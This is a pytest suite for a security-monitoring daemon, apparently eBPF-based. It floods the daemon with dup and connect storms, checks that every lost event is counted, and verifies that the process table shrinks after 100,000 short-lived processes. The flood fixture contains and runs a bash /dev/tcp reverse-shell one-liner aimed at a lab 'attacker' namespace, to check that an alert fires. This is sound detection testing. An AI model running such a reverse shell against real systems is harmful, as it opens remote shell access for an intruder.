"""Resilience under load (issue 6), against the real `chainwatch run` daemon. Counts, not times.

* A dup + connect flood beyond what the agent can read (one flood, three tests): the agent survives; every loss
  is counted in the kernel counters, warned about and carried by the periodic stats line; seen + lost covers
  what the storms did; a reverse shell once the flood has passed alerts, and so does one started the moment
  it ends (network events have a ring of their own, so a connect flood cannot crowd out exec and dup events).
* 100,000 short-lived processes: the process table shrinks back to the live processes plus the ones that
  exited within the grace window, by reaping (not by the max_entries bound); and it does so even when the stats
  line is an hour apart.

The storms are the benchmark's own C workloads (bench/workloads.py), built here with gcc.
"""

from __future__ import annotations

import json
import math
import os
import subprocess
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from types import ModuleType

import pytest

from bench import workloads as workloads_module
from tests.helpers.live import require_bcc, require_netlab, require_root, require_tools
from tests.helpers.polling import wait_until
from tests.live.daemon import Daemon, LogLine, read_lines

# ------------------------------------------------------------------ helpers


@pytest.fixture(scope="module")
def workloads(tmp_path_factory: pytest.TempPathFactory) -> tuple[ModuleType, dict[str, Path]]:
    """The workloads module and its binaries (name -> path), built once for this file."""
    require_root("resilience tests run the real agent, which needs root (run `make test` as root)")
    require_bcc("resilience tests need the distro's bcc (python3-bpfcc); `make setup` installs it")
    require_tools("gcc", reason="the storm workloads are C programs built with gcc, which is not installed")
    return workloads_module, workloads_module.build(tmp_path_factory.mktemp("workloads"))


def live_process_count() -> int:
    """Processes alive now, as /proc lists them (the table holds processes, not threads)."""
    return sum(1 for name in os.listdir("/proc") if name.isdigit())


@pytest.fixture
def start_daemon(tmp_path: Path) -> Iterator[Callable[[str], Daemon]]:
    """Starts `chainwatch run` with a config and waits for sensor_ready; every one started is stopped after."""
    started: list[Daemon] = []

    def start(config: str) -> Daemon:
        workdir = tmp_path / f"agent{len(started)}"
        workdir.mkdir()
        daemon = Daemon(workdir, config)
        started.append(daemon)
        daemon.wait_ready()
        return daemon

    yield start
    for daemon in started:
        daemon.stop()


def ring_drops(stats: LogLine) -> int:
    """Records the kernel could not put in either ring buffer."""
    return int(stats["kernel_drops"]["ringbuf_full"] + stats["kernel_drops"]["net_ringbuf_full"])


def drops(stats: LogLine) -> int:
    """Every event the agent knows it lost: kernel counters (ring buffer full, stash full) and userspace rejects."""
    return sum(stats["kernel_drops"].values()) + stats["userspace_drops"]


# ------------------------------------------------------------------ flood beyond capacity

FLOOD_S = 20.0
STORMS_PER_KIND = 2  # one dup and one connect storm per core: four busy processes against the agent
DUP_CHUNK = 200_000  # rounds per dup_storm run (a second or a few)
CONNECT_CHUNK = 20_000  # connects per connect_storm run
CHUNK_TIMEOUT_S = 120.0
SHELL_PAYLOAD = b"echo cw-$((6*7))\nexit\n"


@dataclass
class FloodRun:
    """What one flood left behind, for the tests below to judge."""

    dup_ops: int  # peerless socket-onto-stdio dups the storms did (each one dropped by the kernel filter)
    connect_ops: int  # non-loopback connects the storms did (each one is sent to the net ring)
    alive_after_flood: bool
    exit_code: int
    lines: list[LogLine]  # the agent's whole log
    alerts: list[LogLine]
    shells: dict[int, bool]  # listener port -> the reverse shell really ran (its output came back)
    attacker_ip: str
    immediate_port: int  # the shell started the moment the storms end
    recovered_port: int  # the shell started once the agent went a stats tick without a new loss

    def alerts_to(self, port: int) -> list[LogLine]:
        return [a for a in self.alerts if a.get("destination") == {"ip": self.attacker_ip, "port": port}]


@pytest.fixture(scope="module")
def flood(workloads, tmp_path_factory: pytest.TempPathFactory) -> Iterator[FloodRun]:
    """One ~20 s dup + connect flood against `chainwatch run`, shared by the tests below (it costs half a minute).

    A reverse shell starts the moment the storms end (its listener is up before), and another once the agent has
    gone a whole stats tick without a new loss. Then the agent is stopped and its log and alerts are kept.
    """
    require_netlab()
    from tests.helpers.netlab import NetLab  # imported only after the checks, as conftest does

    module, binaries = workloads
    workdir = tmp_path_factory.mktemp("flood")
    home = workdir / "home"  # an empty HOME: `bash -i` reads no rc file, whatever this machine's root has
    home.mkdir()
    lab = NetLab()
    daemon: Daemon | None = None
    try:
        # The agent keeps up with these storms at the default sizes (it reads ~150k events/s); a one-page net
        # ring makes the flood exceed what it can take, which is what the loss accounting must be tested on.
        daemon = Daemon(workdir, "[sensor]\nstats_interval_s = 1.0\nnet_ringbuf_pages = 1\n")
        daemon.wait_ready()
        immediate_port, recovered_port = lab.port(), lab.port()
        immediate = lab.listen_tcp(lab.attacker_ns, immediate_port, payload=SHELL_PAYLOAD, duration=FLOOD_S + 120)
        # Connects to the victim's own non-loopback address inside the lab: every one reaches the net ring.
        # The dup storm puts an unconnected socket on fd 2, which the kernel filter drops (no peer, no reverse
        # shell): it loads the CPU and the dup probes, not the ring.
        dup_argv = [str(binaries["dup_storm"]), str(DUP_CHUNK), "2"]
        connect_argv = [str(binaries["connect_storm"]), str(CONNECT_CHUNK), lab.victim_ip4]

        def storm(argv: list[str], until: float) -> int:
            """Runs chunks back to back in the victim namespace until ``until``; returns the operations done."""
            ops = 0
            while time.monotonic() < until:
                result = lab.run(lab.victim_ns, argv, timeout=CHUNK_TIMEOUT_S)
                assert result.returncode == 0, result.stderr.decode(errors="replace")
                ops += module.parse_report(result.stdout.decode()).ops
            return ops

        def reverse_shell(port: int) -> None:
            lab.run(
                lab.victim_ns,
                ["bash", "-c", f"bash -i >& /dev/tcp/{lab.attacker_ip4}/{port} 0>&1; exit 0"],
                timeout=20,
                env={"HOME": str(home)},
            )

        until = time.monotonic() + FLOOD_S
        with ThreadPoolExecutor(max_workers=2 * STORMS_PER_KIND) as pool:
            dups = [pool.submit(storm, dup_argv, until) for _ in range(STORMS_PER_KIND)]
            connects = [pool.submit(storm, connect_argv, until) for _ in range(STORMS_PER_KIND)]
            dup_ops = sum(f.result() for f in dups)
            connect_ops = sum(f.result() for f in connects)
        reverse_shell(immediate_port)
        alive_after_flood = daemon.alive()
        shells = {immediate_port: b"cw-42" in immediate.wait(timeout=20)}

        def recovered() -> bool:
            """A whole stats tick, after the shell above, with no new kernel loss."""
            drops_seen = [line["kernel_drops"] for line in daemon.stats()[seen_before:]]
            return any(a == b for a, b in zip(drops_seen, drops_seen[1:], strict=False))

        seen_before = len(daemon.stats())
        daemon.wait_until(recovered, "a stats tick without new losses after the flood", 120.0)
        listener = lab.listen_tcp(lab.attacker_ns, recovered_port, payload=SHELL_PAYLOAD, duration=15)
        reverse_shell(recovered_port)
        shells[recovered_port] = b"cw-42" in listener.wait(timeout=20)

        def recovered_alert() -> bool:
            return any(
                json.loads(text).get("destination", {}).get("port") == recovered_port
                for text in read_lines(daemon.alerts)
            )

        # Events are read in order, so once the later shell's alert is out, the earlier one's had its chance.
        # The bound only stops a hang; the test judges what came out.
        wait_until(lambda: not daemon.alive() or recovered_alert(), timeout=60, interval=0.1)
        exit_code = daemon.stop()
        yield FloodRun(
            dup_ops=dup_ops,
            connect_ops=connect_ops,
            alive_after_flood=alive_after_flood,
            exit_code=exit_code,
            lines=daemon.lines(),
            alerts=[json.loads(t) for t in read_lines(daemon.alerts)],
            shells=shells,
            attacker_ip=lab.attacker_ip4,
            immediate_port=immediate_port,
            recovered_port=recovered_port,
        )
    finally:
        if daemon is not None:
            daemon.stop()
        lab.close()


def test_flood_beyond_capacity_every_loss_is_counted_warned_and_in_the_stats_line(flood: FloodRun) -> None:
    """Dup + connect storms on both cores for ~20 s: the agent keeps running and exits cleanly; the ring buffer
    overflows and every loss is counted, warned about and carried by the periodic stats line; events seen plus
    events lost cover every storm operation."""
    assert flood.alive_after_flood
    assert flood.exit_code == 0, flood.lines[-3:]
    (final,) = [line for line in flood.lines if line.get("event") == "stats" and line.get("final")]
    periodic = [line for line in flood.lines if line.get("event") == "stats" and not line.get("final")]
    lost_kernel = final["kernel_drops"]
    # The flood must really exceed what the agent reads, or the loss accounting below proves nothing.
    assert ring_drops(final) > 0, (flood.dup_ops, flood.connect_ops, final)
    # Every storm connect was sent: it was either read and counted, or counted as lost. A silent loss makes the
    # left side fall short. The peerless dups never reach the ring (kernel filter), so none may show up.
    seen = final["events"].get("connect", 0)
    assert seen + drops(final) >= flood.connect_ops, (seen, final, flood.connect_ops)
    assert final["events"].get("socket_dup", 0) < flood.dup_ops / 1000, (final, flood.dup_ops)
    # Each increase of a kernel counter was warned about, and the warnings add up to the final counters.
    warnings = [line for line in flood.lines if line.get("event") == "events_lost"]
    assert warnings and all(w["level"] == "warning" for w in warnings)
    for reason, total in lost_kernel.items():
        assert sum(w["new"].get(reason, 0) for w in warnings) == total, (reason, warnings[-1], final)
    assert warnings[-1]["total"] == lost_kernel
    # The losses show in the periodic stats line while the agent runs, not only in the one at exit.
    assert any(ring_drops(line) > 0 for line in periodic), periodic[-1:]
    assert all(ring_drops(line) <= ring_drops(final) for line in periodic)
    # Nothing broke inside the agent under load.
    assert final["consumer_errors"] == 0, final
    assert not [line for line in flood.lines if line.get("level") in ("error", "critical")]


def test_reverse_shell_once_the_flood_has_passed_still_alerts(flood: FloodRun) -> None:
    """A bash /dev/tcp reverse shell started once the agent has gone a stats tick without losses gives an alert:
    the flood leaves the agent working, not wedged or blind."""
    assert flood.shells[flood.recovered_port], "the reverse shell itself did not run"
    assert flood.alerts_to(flood.recovered_port), [a["destination"] for a in flood.alerts if "destination" in a]


def test_reverse_shell_started_as_the_flood_ends_still_alerts(flood: FloodRun) -> None:
    """A bash /dev/tcp reverse shell started the moment the storms end (issue 6: "right after the flood") gives
    an alert."""
    assert flood.shells[flood.immediate_port], "the reverse shell itself did not run"
    assert flood.alerts_to(flood.immediate_port), [a["destination"] for a in flood.alerts if "destination" in a]


# ------------------------------------------------------------------ the process table stays bounded

PROCESSES = 100_000
STORM_JOBS = 2  # children in flight: both cores busy
GRACE_S = 3.0
STATS_INTERVAL_S = 1.0
TABLE_SLACK = 64  # processes started or ended between the stats line and the /proc count, and their like
STORM_TIMEOUT_S = 900.0  # ~1 minute here with the agent running; the bound only stops a hang


def test_process_table_returns_to_live_count_after_100k_processes(workloads, start_daemon) -> None:
    """100,000 fork + exec + exit of /bin/true: the agent sees them all, reaps every one, and its table shrinks
    back to the live processes plus those that exited within the grace window, not to the max_entries bound."""
    module, binaries = workloads
    daemon = start_daemon(f"[sensor]\nstats_interval_s = {STATS_INTERVAL_S}\n[lineage]\ngrace_s = {GRACE_S}\n")
    daemon.wait_until(lambda: bool(daemon.stats()), "the first stats line", 30.0)
    before = daemon.stats()[-1]

    storm = subprocess.run(
        [str(binaries["exec_storm"]), str(PROCESSES), "0", str(STORM_JOBS)],
        capture_output=True,
        text=True,
        timeout=STORM_TIMEOUT_S,
    )
    assert storm.returncode == 0, storm.stderr
    assert module.parse_report(storm.stdout).ops == PROCESSES

    def exits_accounted() -> bool:
        # Every storm child's exit was read or counted as lost: the table has had its chance to see them all.
        last = daemon.stats()[-1]
        return last["events"].get("exit", 0) + drops(last) - before["events"].get("exit", 0) >= PROCESSES

    daemon.wait_until(exits_accounted, "the agent to read the storm's exits", 300.0)
    caught_up = len(daemon.stats()) - 1
    # Wait for stats lines until the last storm exit is older than the grace window at a reap (the daemon reaps
    # at least once per stats tick); then the table may hold only live processes and those that exited since.
    window = math.ceil(GRACE_S / STATS_INTERVAL_S) + 1
    target = caught_up + window + 1
    daemon.wait_until(lambda: len(daemon.stats()) > target, "stats lines past the grace window", 120.0)
    live = live_process_count()  # as close as we can get to the line just logged
    stats = daemon.stats()
    line = stats[target]
    assert daemon.alive()

    lost = drops(line) - drops(before)
    forks_seen = line["events"].get("fork", 0) - before["events"].get("fork", 0)
    reaped = line["reaped"] - before["reaped"]
    # Exits in the last grace window + one tick (the agent's own count): those processes may still be held.
    recent_exits = line["events"].get("exit", 0) - stats[target - window]["events"].get("exit", 0)
    assert forks_seen + lost >= PROCESSES, (forks_seen, lost)
    # Each storm child entered the table and left it by reaping (a lost event may keep one out)...
    assert reaped + lost >= PROCESSES, (reaped, lost, line)
    # ...and never by the max_entries bound, which would hide a reaping bug behind a big constant.
    assert line["evicted"] == 0, line
    # A lost Exit leaves its process looking alive until its pid is reused, hence `lost` in the upper bound.
    assert line["processes"] <= live + recent_exits + lost + TABLE_SLACK, (line["processes"], live, recent_exits)
    assert line["processes"] >= live - TABLE_SLACK, (line["processes"], live)


def forks_since_boot() -> int:
    """The kernel's count of forks (threads included) since boot, from /proc/stat."""
    for text in Path("/proc/stat").read_text().splitlines():
        if text.startswith("processes "):
            return int(text.split()[1])
    raise AssertionError("/proc/stat has no processes line")


QUIET_PROCESSES = 10_000
QUIET_GRACE_S = 1.0
SETTLE_S = 10.0  # after the storm: time for the agent to finish reading it, then several grace windows


def test_reaping_does_not_wait_for_the_stats_line(workloads, start_daemon) -> None:
    """With the stats line far apart (an hour) and grace_s = 1, the table still shrinks to the live processes
    plus the grace window after 10,000 processes: reaping runs on its own tick, not on the logging interval."""
    module, binaries = workloads
    daemon = start_daemon(f"[sensor]\nstats_interval_s = 3600.0\n[lineage]\ngrace_s = {QUIET_GRACE_S}\n")
    storm = subprocess.run(
        [str(binaries["exec_storm"]), str(QUIET_PROCESSES), "0", str(STORM_JOBS)],
        capture_output=True,
        text=True,
        timeout=STORM_TIMEOUT_S,
    )
    assert storm.returncode == 0, storm.stderr
    window = QUIET_GRACE_S + 2.0  # the grace window plus two housekeeping ticks
    time.sleep(SETTLE_S - window)
    forks_before_window = forks_since_boot()
    time.sleep(window)
    live, forks_in_window = live_process_count(), forks_since_boot() - forks_before_window
    assert daemon.alive()
    assert daemon.stop() == 0, daemon.tail()
    assert daemon.stats() == []  # no periodic stats line: any reaping came from elsewhere
    final = daemon.final_stats()
    lost = drops(final)
    assert final["events"].get("fork", 0) + lost >= QUIET_PROCESSES, final
    assert final["reaped"] + lost >= QUIET_PROCESSES, final
    assert final["evicted"] == 0, final
    # Only processes that exited in the last window may still be held; each of those was forked in it, or is one
    # of the few long-lived ones that happened to end then (the slack).
    assert final["processes"] <= live + forks_in_window + lost + TABLE_SLACK, (
        final["processes"],
        live,
        forks_in_window,
    )
    assert final["processes"] >= live - TABLE_SLACK, (final["processes"], live)
